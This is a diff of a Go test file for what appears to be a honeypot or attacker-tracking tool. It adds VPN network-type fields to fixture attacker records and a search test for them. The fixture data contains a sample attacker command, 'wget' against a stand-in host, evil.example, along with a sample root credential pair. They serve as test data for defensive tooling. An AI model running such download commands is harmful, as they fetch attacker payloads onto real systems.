@@ -36,7 +36,7 @@ func attackers() map[string]string {
 		busy: head(busy, "95", "Critical", "malicious", 24*time.Hour) + `"event_count":50,"services":["ssh"],"deckies":["web-1"],"behavior":{"class":"interactive","tools":["nmap"]},` +
 			`"commands":[` + strings.Join(commands, ",") + `],"command":{"line":["wget http://evil.example/1"]},"credential":{"username":["root"],"password":["hunter2"],"pair":["root:hunter2"]},` +
 			`"fingerprint":{"hassh":["b12d2871a1189eff20364cf5333619ee"]},"artifact":{"sha256":["aa11"],"url":["http://evil.example/x"]},"campaign":{"keys":["` + campaignKey + `"]},` +
-			`"port":{"name":["tcp/2222"]},"country_code":"DE","state":"AAAA"}`,
+			`"port":{"name":["tcp/2222"]},"country_code":"DE","country_name":"Germany","network_type":"vpn","network_type_source":"MISP vpn-ipv4 2025-12-23","state":"AAAA"}`,
 		quiet: strings.ReplaceAll(head(quiet, "30", "Low", "suspicious", 10*24*time.Hour), `["T1105"]`, `["T1046"]`) + `"event_count":900,"services":["http"],"deckies":["web-2"],"behavior":{"class":"scanning"}}`,
 		harmless: strings.ReplaceAll(head(harmless, "12", "Unknown", "benign", 12*24*time.Hour), `["T1105"]`, `["T1046"]`) +
 			`"classification_basis":"announced","event_count":3,"services":["http"]}`,
@@ -177,6 +177,7 @@ var readerRows = map[string]row{
 	"search --port":        {"tcp", `--port: got "tcp"`, finds("2222")},
 	"search --country":     {"Germany", `--country: got "Germany"`, finds("de")},
 	"search --network":     {"x", `--network: got "x"`, finds("9.9.9.9/32")},
+	"search --network-type": searchFor("VPN"),
 	"search --service":     searchFor("ssh"),
 	"search --decky":       searchFor("web-1"),
 	"search --tool":        searchFor("nmap"),
